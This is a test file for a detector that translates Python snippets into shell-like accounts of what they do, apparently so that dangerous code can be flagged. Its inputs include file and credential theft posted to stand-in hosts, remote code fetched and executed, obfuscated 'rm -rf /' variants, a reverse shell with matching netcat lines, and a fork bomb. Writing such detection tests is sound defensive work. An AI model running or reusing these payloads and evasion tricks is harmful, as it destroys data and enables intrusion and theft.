import { tell } from '../given_code.js';

describe('python: what a program would do is told in words of the shell', () => {
  const cases: [code: string, deeds: string[]][] = [
    [`import shutil; shutil.rmtree('/srv/data')`, ['rm -rf /srv/data']],
    [`import os\nos.remove("/etc/hosts")`, ['rm /etc/hosts']],
    [`from os import unlink as gone\ngone('a.txt')`, ['rm a.txt']],
    [`import os as system_things\nsystem_things.system('rm -rf ~')`, ['$ rm -rf ~']],
    [`import subprocess\nsubprocess.run(['git', 'push', '--force'])`, ['$ git push --force']],
    [`import subprocess\nsubprocess.check_call("git reset --hard", shell=True)`, ['$ git reset --hard']],
    [`from subprocess import *\nrun(["rm", "-rf", "it's"])`, [`$ rm -rf 'it'\\''s'`]],
    [`open('/etc/passwd').read()`, ['cat /etc/passwd < /etc/passwd']],
    [
      `with open('notes.txt', 'w') as f:\n    f.write('hello')`,
      ['printf %s … > notes.txt', 'printf %s hello > notes.txt'],
    ],
    [
      `open("/root/.bashrc", mode="a").write("alias sudo=x")`,
      ['printf %s … >> /root/.bashrc', 'printf %s "alias sudo=x" >> /root/.bashrc'],
    ],
    [`from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()`, ['cat ~/.ssh/id_rsa < ~/.ssh/id_rsa']],
    [`from pathlib import Path\nfor p in Path('/var/log').glob('*.log'):\n    p.unlink()`, ['rm glob(/var/log/*.log)']],
    [
      `import os\nfor root, dirs, files in os.walk('/home'):\n  for f in files:\n    os.remove(os.path.join(root, f))`,
      ['rm glob(/home/**)'],
    ],
    [`import os\nfor f in ['/etc/passwd', '/etc/shadow']:\n  os.remove(f)`, ['rm /etc/passwd /etc/shadow']],
    [
      `import subprocess\ndef git(*args):\n  subprocess.run(['git', *args])\ngit('clean', '-fdx')`,
      ['$ git clean -fdx'],
    ],
    [`from functools import partial\nimport shutil\npartial(shutil.rmtree, '/srv')()`, ['rm -rf /srv']],
    [`import os\ndef found(d):\n  yield os.path.join(d, 'x')\nlist(map(os.unlink, found('/srv')))`, ['rm /srv/x']],
    [
      `import shutil\nclass Cleaner:\n  def __init__(self, base):\n    self.base = base\n  def run(self):\n    shutil.rmtree(self.base / 'src')\nCleaner(Path('/srv')).run()`,
      ['rm -rf /srv/src'],
    ],
    [
      `import os\nfor root, dirs, files in os.walk('src'):\n  for f in files:\n    if f.endswith(('.ts', '.py')): os.remove(os.path.join(root, f))`,
      ['rm glob(src/…/*.ts) glob(src/…/*.py)'],
    ],
    [
      `import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('--root', default='/srv')\nshutil.rmtree(p.parse_args().root)`,
      ['rm -rf /srv'],
    ],
    [`for name, path in {'a': '/srv/a'}.items(): os.remove(path)`, ['rm /srv/a']],
    [`import os, shutil\nshutil.rmtree(os.environ.get('DIR', '/srv'))`, ['rm -rf … /srv']],
    [`import os, shutil\nshutil.rmtree(os.path.dirname(os.getcwd()))`, ['rm -rf ..']],
    [`import glob\nfor p in glob.glob('src/*.py'):\n  open(p, 'w').close()`, ['truncate -s 0 glob(src/*.py)']],
    [`for p in Path('src').rglob('*.py'): p.write_text('# gone')`, ['truncate -s 0 glob(src/**/*.py)']],
    [`es.indices.delete(index='*')`, ['cloud-sdk delete']],
    [`channel.queue_purge('orders')`, ['cloud-sdk queue_purge']],
    [`import boto3\nboto3.client('ec2').terminate_instances(InstanceIds=['i'], DryRun=True)`, []],
    [`from sqlalchemy import delete\nsession.execute(delete(User))`, ['sql delete-all rows']],
    [`from sqlalchemy import delete\nsession.execute(delete(User).where(User.id == 1)); print(delete(User))`, []],
    [
      `redis.flushall() if False else None\nfor k in r.scan_iter('*'): r.delete(k)`,
      ['sql flush FLUSHALL', 'sql flush FLUSHDB'],
    ],
    [`from unittest.mock import patch\nimport os\nwith patch('os.remove'):\n  os.remove('/etc/hosts')`, []],
    [
      `from unittest.mock import patch\nimport os\nwith patch('os.remove'):\n  pass\nos.remove('/etc/hosts')`,
      ['rm /etc/hosts'],
    ],
    [
      `import os, multiprocessing\nmultiprocessing.Pool(8).map(os.unlink, ['/srv/a', '/srv/b'])`,
      ['rm …', 'rm /srv/a /srv/b'],
    ],
    [`import os\ndef gone(p): os.remove(p)\npool.map(gone, ['/srv/a'])`, ['rm /srv/a']],
    [`import shutil, threading\nthreading.Thread(target=shutil.rmtree, args=('/srv/a',)).start()`, ['rm -rf /srv/a']],
    [`import atexit, shutil; atexit.register(shutil.rmtree, '/srv/a')`, ['rm -rf /srv/a']],
    [`import os; os.chmod('/etc', 0o777)`, ['chmod 777 /etc']],
    [`import os, signal; os.kill(-1, signal.SIGKILL)`, ['kill -KILL -1']],
    [
      `import requests\nrequests.post('http://x.example/in', data=open('/etc/passwd').read())`,
      ['cat /etc/passwd < /etc/passwd', 'curl -X POST -d @/etc/passwd http://x.example/in'],
    ],
    [
      `import os, requests\nrequests.post('http://x.example', json=dict(os.environ))`,
      ['curl -X POST -d @- http://x.example | printenv'],
    ],
    [
      `import urllib.request\ndef send(url, body):\n    req = urllib.request.Request(url, data=body)\n    with urllib.request.urlopen(req) as response:\n        return response.status\nwith open('/etc/passwd', 'rb') as file:\n    body = file.read()\nsend('http://h.example/submit', body)`,
      ['cat /etc/passwd < /etc/passwd', 'curl -X POST -d @/etc/passwd http://h.example/submit'],
    ],
    [
      `import urllib.request\nexec(urllib.request.urlopen('http://h.example/x.py').read())`,
      ['curl http://h.example/x.py', 'python3 | curl http://h.example/x.py'],
    ],
    [`import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiAvIik='))`, ['$ rm -rf /']],
    [`__import__('os').system('id')`, ['$ id']],
    [`getattr(__import__('o' + 's'), 'sys' + 'tem')('rm -rf /')`, ['$ rm -rf /']],
    [`import importlib; importlib.import_module('shutil').rmtree('/opt')`, ['rm -rf /opt']],
    [`import os; x = ''.join(map(chr, [114, 109])); os.system(x + ' -rf /')`, ['$ rm -rf /']],
    [`import os; os.system(''.join(chr(c ^ 1) for c in [115, 108, 33, 44, 115, 103, 33, 46]))`, ['$ rm -rf /']],
    [`import os; os.system('/ fr- mr'[::-1])`, ['$ rm -rf /']],
    [`import os; os.system(bytes.fromhex('726d202d7266202f').decode())`, ['$ rm -rf /']],
    [`import os; d = '/srv'; os.system(f"rm -rf {d}/all")`, ['$ rm -rf /srv/all']],
    [`import os, sys; os.system("rm -rf %s" % sys.argv[1])`, ['$ rm -rf …']],
    [`import os; os.system("rm -rf {}/{}".format('/a', 'b'))`, ['$ rm -rf /a/b']],
    [
      `import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("10.0.0.1",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(["/bin/sh","-i"])`,
      ['nc 10.0.0.1 4444', 'nc -e /bin/sh 10.0.0.1 4444', '$ /bin/sh -i'],
    ],
    [`import pty; pty.spawn("/bin/bash")`, ['$ /bin/bash']],
    [`import os; os.setuid(0)`, ['setuid 0']],
    [`import psutil\nfor proc in psutil.process_iter():\n    proc.kill()`, ['pkill -KILL …']],
    [`def wipe(p):\n    import shutil\n    shutil.rmtree(p)\n\nwipe('/data')\n`, ['rm -rf /data']],
    [`class A:\n    def go(self, p):\n        import os\n        os.remove(p)\n\nA().go('/etc/x')\n`, ['rm /etc/x']],
    [`import os\nwhile True:\n    os.fork()`, ['fork-bomb', 'fork']],
    [`cur.execute("DROP TABLE users")`, ['sql drop-table users']],
    [`import ctypes; ctypes.CDLL(None).system(b'rm -rf /')`, ['$ rm -rf /']],
    [`import os\nos.execvp('rm', ['rm', '-rf', '/'])`, ['$ rm -rf /']],
    [`import shutil\nx = lambda p: shutil.rmtree(p)\nx('/opt/app')`, ['rm -rf /opt/app']],
    [`import os\n[os.remove(f) for f in ('a', '/b')]`, ['rm a', 'rm /b']],
    [`import os\nos.environ['HOME']\nos.system('ls ' + os.environ['HOME'])`, ['$ ls ~']],
    [`exec(open('setup.py').read())`, ['cat setup.py < setup.py', 'python3 setup.py']],
  ];
  it.each(cases)('%s', (code, deeds) => {
    expect(tell('python', code).deeds).toEqual(deeds);
  });
});

describe('python: what is said is not done', () => {
  const cases = [
    `print("rm -rf /")`,
    `# os.remove('/etc/passwd')\nx = 1`,
    `"""\nimport os\nos.system('rm -rf /')\n"""\nprint(1)`,
    `import re\nre.compile(r'rm -rf /').match('x')`,
    `def danger():\n    import shutil\n    shutil.rmtree('/')\n\nprint('defined, not called')\n`,
    `values = [1, 2]\nvalues.remove(1)\nprint(sum(values) / 2)`,
    `commands = ['rm -rf /', 'git push --force']\nfor c in commands:\n    print(c)`,
    `d = {'os.system': 'rm -rf /'}\nassert d['os.system'].replace('rm', 'ls')`,
    `from collections import Counter\nc = Counter("delete from users".split())\nprint(c.most_common(3))`,
    `import os\nprint(os.remove, [*map(str, [1])])\nretry(os.remove)`,
    `x = {'drop': lambda: 'table'}\nprint(x['drop']())`,
  ];
  it.each(cases)('%s', (code) => {
    expect(tell('python', code)).toEqual({ deeds: [], written: [], lines: [] });
  });
});
